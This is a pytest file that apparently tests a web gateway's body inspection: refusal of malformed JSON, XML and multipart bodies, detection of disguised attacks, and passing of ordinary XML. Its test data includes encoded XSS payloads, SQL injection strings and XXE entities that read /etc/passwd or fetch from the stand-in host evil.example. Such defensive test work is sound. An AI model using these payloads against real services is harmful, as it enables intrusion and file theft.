"""What becomes of requests that are odd, in whole requests: the table of docs/inspection.md."""

from __future__ import annotations

import ast
import gzip
from collections.abc import Callable
from pathlib import Path

import pytest

from microgateway_common.ir.deny_rules import Level, ThreatHandling
from microgateway_inspection.policy import Policy
from microgateway_inspection.request import Headers, Request
from microgateway_inspection.verdict import Block, block_subtype

MakePolicy = Callable[..., Policy]

_ROOT = Path(__file__).resolve().parents[3]
_SOURCES = _ROOT / "libs/inspection/src/microgateway_inspection"

_FORM = b"application/x-www-form-urlencoded"
_JSON = b"application/json"
_XML = b"application/xml"
_MULTIPART = b"multipart/form-data; boundary=B"
_ATTACK = b"<script>alert(1)</script>"


def _post(body: bytes, *content_types: bytes, **headers: bytes) -> tuple[Request, bytes]:
    """headers: names with `_` for `-`."""
    fields: Headers = [(b"content-type", each) for each in content_types]
    fields += [(name.replace("_", "-").encode(), value) for name, value in headers.items()]
    return Request("POST", "/", b"", fields, "192.0.2.1"), body


def _part(head: bytes, content: bytes) -> bytes:
    return b"--B\r\nContent-Disposition: form-data; " + head + b"\r\n\r\n" + content + b"\r\n--B--\r\n"


_REFUSED = [
    # Malformed bodies.
    ("json_malformed", _post(b'{"a":', _JSON)),
    ("json_malformed", _post(b"a=1", _JSON)),
    ("json_malformed", _post(b"{'a': 1}", _JSON)),
    ("json_malformed", _post(b"\xef\xbb\xbf{}", _JSON)),
    ("json_malformed", _post('{"a": 1}'.encode("utf-16"), _JSON)),
    ("json_malformed", _post(b'"\xc0\xa7"', _JSON)),
    ("json_malformed", _post(b"{}\n{}", _JSON)),
    ("json_duplicate_key", _post(b'{"a": 1, "a": 2}', _JSON)),
    ("json_nesting_depth", _post(b"[" * 101 + b"]" * 101, _JSON)),
    ("xml_malformed", _post(b"<a>", _XML)),
    ("xml_malformed", _post(b'{"a": 1}', b"text/xml")),
    ("xml_expansion", _post(b'<!DOCTYPE z [<!ENTITY a "b"><!ENTITY c "&a;&a;">]><z>&c;</z>', _XML)),
    ("multipart_malformed", _post(b"a=1", _MULTIPART)),
    ("multipart_malformed", _post(_part(b"name=a", b"1"), b"multipart/form-data")),
    ("multipart_malformed", _post(_part(b"name=a", b"1").replace(b"\r\n", b"\n"), _MULTIPART)),
    ("multipart_malformed", _post(_part(b"name=a\r\n x=y", b"1"), _MULTIPART)),
    ("multipart_ambiguous", _post(_part(b"name=a", b"1"), _MULTIPART + b"; boundary=C")),
    ("multipart_ambiguous", _post(_part(b"name=a; filename=x; filename=y", b"1"), _MULTIPART)),
    ("multipart_ambiguous", _post(_part(b"name=a", b"--B"), _MULTIPART)),
    # What stands in the way of reading.
    ("content_type_ambiguous", _post(b"{}", _JSON, b"text/plain")),
    ("content_encoding", _post(gzip.compress(b"a=1"), _FORM, content_encoding=b"gzip")),
    ("content_encoding", _post(b"a=1", _FORM, content_encoding=b"identity, br")),
    ("charset", _post(b"+ADw-script+AD4-", _FORM + b"; charset=utf-7")),
    ("charset", _post("<script>".encode("cp037"), _FORM + b"; charset=ibm037")),
    ("charset", _post('{"a": 1}'.encode("utf-16"), _JSON + b"; charset=utf-16")),
    ("charset", _post(b"{}", _JSON + b"; charset=utf-8; charset=utf-16")),
    ("charset", _post("<a/>".encode("utf-16"), _XML)),
    ("charset", _post(b'<?xml version="1.0" encoding="utf-7"?><a/>', _XML)),
    ("charset", _post(b"_charset_=utf-7&a=%2BADw-script%2BAD4-", _FORM)),
]

_SEEN = [
    # A wrong or missing type: what is sent is looked at under the type that counts.
    ("XSS", _post(b'{"a": "' + _ATTACK + b'"}', _FORM)),
    ("XSS", _post(b"a=" + _ATTACK)),
    ("XSS", _post(b"a=" + _ATTACK, b"")),
    ("XSS", _post(b"a=" + _ATTACK, b"; charset=utf-8")),
    ("XSS", _post(b'{"a": "' + _ATTACK + b'"}', b"text/plain, application/json")),
    ("XSS", _post(b"a=" + _ATTACK, b"APPLICATION/X-WWW-FORM-URLENCODED;charset=UTF-8")),
    # Repeated parameters, alone and together.
    ("XSS", _post(b"a=1&a=" + _ATTACK, _FORM)),
    ("XSS", _post(b"a=<scr&a=ipt>alert(1)", _FORM)),
    ("SQL", _post(b"a=1;q=' or '1'='1", _FORM)),
    # Encodings in encodings.
    ("XSS", _post(b'{"a": "%253Cscript%253Ealert(1)"}', _JSON)),
    ("XSS", _post(b'{"a": "\\u003cscript>alert(1)"}', _JSON)),
    ("XSS", _post(b'{"a": "&lt;script&gt;alert(1)"}', _JSON)),
    ("XSS", _post(b"a=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", _FORM)),
    # Multipart: names, file names, headers of parts; an empty file name makes no file.
    ("XSS", _post(_part(b'name="<script>alert(1)</script>"', b"1"), _MULTIPART)),
    ("XSS", _post(_part(b'name=a; filename="<script>alert(1)</script>"', b"1"), _MULTIPART)),
    ("XSS", _post(_part(b'name=a; filename=""', _ATTACK), _MULTIPART)),
    ("XSS", _post(_part(b"name=a; filename*=utf-8''%3Cscript%3Ealert(1)", b"1"), _MULTIPART)),
    ("XSS", _post(_part(b"name=a\r\nX-Note: " + _ATTACK, b"1"), _MULTIPART)),
    # XML: text, attributes, references, CDATA, declarations.
    ("XSS", _post(b"<a>&lt;script&gt;alert(1)</a>", _XML)),
    ("XSS", _post(b"<a><![CDATA[" + _ATTACK + b"]]></a>", _XML)),
    ("SQL", _post(b"<a b=\"' or '1'='1\"/>", b"application/soap+xml")),
    ("SQL", _post(b"<a>' or <!-- x -->'1'='1</a>", b"text/xml")),
    ("EXPLOIT", _post(b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', _XML)),
    ("EXPLOIT", _post(b'<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x">%x;]><a/>', _XML)),
    ("EXPLOIT", _post(b'<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>', b"image/svg+xml")),
    ("EXPLOIT", _post(b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>', _XML)),
    ("EXPLOIT", _post(b'<xi:include href="file:///etc/passwd" parse="text"/>', _XML)),
]

_PASSED = [
    _post(_ATTACK, b"text/plain"),
    _post(b"\0\1\2", b"application/octet-stream"),
    _post(_part(b"name=a; filename=a.html", _ATTACK), _MULTIPART),
    _post(b'{"a": 1}\n{"a": 2}\n', b"application/x-ndjson"),
    _post(b"", _JSON),
    _post(b"", _MULTIPART),
    _post(b"a=1&a=2&b[]=1&b[]=2", _FORM),
    _post(b"{}", _JSON, content_encoding=b"identity"),
]


@pytest.mark.parametrize(("subtype", "sent"), _REFUSED)
def test_refused_because_it_cannot_be_read(
    make_policy: MakePolicy, subtype: str, sent: tuple[Request, bytes]
) -> None:
    for level in (Level.BASIC, Level.STANDARD):
        verdict = make_policy(level=level).inspect(*sent)
        assert isinstance(verdict, Block)
        assert block_subtype(verdict.cause) == subtype


@pytest.mark.parametrize(("key", "sent"), _SEEN)
def test_seen_by_a_rule(standard: Policy, key: str, sent: tuple[Request, bytes]) -> None:
    verdict = standard.inspect(*sent)
    assert isinstance(verdict, Block)
    assert block_subtype(verdict.cause) == key


@pytest.mark.parametrize("sent", _PASSED)
def test_passed(standard: Policy, sent: tuple[Request, bytes]) -> None:
    assert standard.inspect(*sent).threats == ()


@pytest.mark.parametrize(("subtype", "sent"), [each for each in _REFUSED if "json" in each[0]])
def test_in_log_only_it_is_reported_and_looked_at_as_one_text(
    make_policy: MakePolicy, subtype: str, sent: tuple[Request, bytes]
) -> None:
    request, body = sent
    policy = make_policy(handling=ThreatHandling.LOG_ONLY, limit_handling=ThreatHandling.LOG_ONLY)
    found = [block_subtype(each) for each in policy.inspect(request, body + _ATTACK).threats]
    assert found[0] in (subtype, "json_malformed")
    if "charset" not in found[0] and not body.startswith(b"\xff\xfe"):
        assert "XSS" in found


def test_every_reason_not_to_read_a_body_is_documented() -> None:
    page = (_ROOT / "docs/inspection.md").read_text("utf-8")
    assert [each for each in sorted(_subtypes()) if f"`{each}`" not in page] == []


def _subtypes() -> set[str]:
    """The first arguments of UnreadableError in the parsers."""
    calls = (
        node
        for file in [*_SOURCES.glob("parsing/*.py"), _SOURCES / "bodies.py"]
        for node in ast.walk(ast.parse(file.read_text("utf-8")))
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name)
    )
    return {
        str(call.args[0].value)
        for call in calls
        if isinstance(call.func, ast.Name)
        and call.func.id == "UnreadableError"
        and isinstance(call.args[0], ast.Constant)
    }


_SOAP = b"""<?xml version="1.0" encoding="UTF-8"?>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:web="urn:w">
  <soapenv:Header>
    <wsse:Security xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/oasis-wss-wssecurity-secext-1.0.xsd">
      <wsse:UsernameToken><wsse:Username>o'brien</wsse:Username></wsse:UsernameToken>
    </wsse:Security>
  </soapenv:Header>
  <soapenv:Body>
    <web:GetQuote><web:Symbol>AT&amp;T</web:Symbol><web:Note>select a day &lt; 5</web:Note></web:GetQuote>
  </soapenv:Body>
</soapenv:Envelope>"""
_RSS = b"""<?xml version="1.0"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
  <title>News &amp; Views</title><link>https://news.example/</link>
  <item><title>It's 5 o'clock -- time to go</title><guid isPermaLink="false">a-1</guid>
    <content:encoded><![CDATA[<p>Union <b>selects</b> a new board</p>]]></content:encoded></item>
  <item><title>Drop-in &amp; update</title><pubDate>Tue, 14 May 2024 09:26:53 +0200</pubDate></item>
</channel></rss>"""
_SVG = b"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Generator: a drawing program 27.0 -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 24 24">
  <defs><linearGradient id="a"><stop offset="0%" style="stop-color:rgb(255,255,0);stop-opacity:1"/>
  </linearGradient></defs>
  <path d="M12 2C6.48 2 2 6.48 2 12s4.48 10 10 10z" fill="url(#a)" transform="rotate(45 12 12)"/>
  <use xlink:href="#a"/><text x="4" y="20" font-family="'Open Sans', sans-serif">5 &gt; 3</text>
</svg>"""
_MAVEN = b"""<project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
 xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd">
  <properties><java.version>17</java.version><dir>${project.basedir}/target</dir></properties>
  <dependencies><dependency><groupId>org.example</groupId><scope>test</scope></dependency></dependencies>
</project>"""
_SITEMAP = b"""<?xml version="1.0" encoding="UTF-8"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
<url><loc>https://www.shop.example/?a=1&amp;b=2</loc><lastmod>2024-05-14</lastmod></url></urlset>"""
_WEBDAV = (
    b"""<?xml version="1.0"?><D:propfind xmlns:D="DAV:"><D:prop><D:getlastmodified/></D:prop></D:propfind>"""
)
_XML_RPC = b"""<?xml version="1.0"?><methodCall><methodName>blog.post</methodName><params>
<param><value><string>Tom &amp; Jerry's "union"</string></value></param></params></methodCall>"""
_SAML = (
    b'<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_8e8d" Version="2.0"'
    b' Destination="https://idp.example/sso" AssertionConsumerServiceURL="https://sp.example/acs">'
    b"<saml:Issuer xmlns:saml='urn:oasis:names:tc:SAML:2.0:assertion'>https://sp.example/meta</saml:Issuer>"
    b"</samlp:AuthnRequest>"
)


@pytest.mark.parametrize(
    ("media_type", "body"),
    [
        (b"text/xml; charset=utf-8", _SOAP),
        (b"application/soap+xml", _SOAP),
        (b"application/rss+xml", _RSS),
        (b"application/xml", _RSS),
        (b"image/svg+xml", _SVG),
        (b"application/xml", _MAVEN),
        (b"text/xml", _SITEMAP),
        (b"application/xml", _WEBDAV),
        (b"text/xml", _XML_RPC),
        (b"application/samlassertion+xml", _SAML),
    ],
)
def test_ordinary_xml_passes_at_standard(standard: Policy, media_type: bytes, body: bytes) -> None:
    assert standard.inspect(*_post(body, media_type)).threats == ()
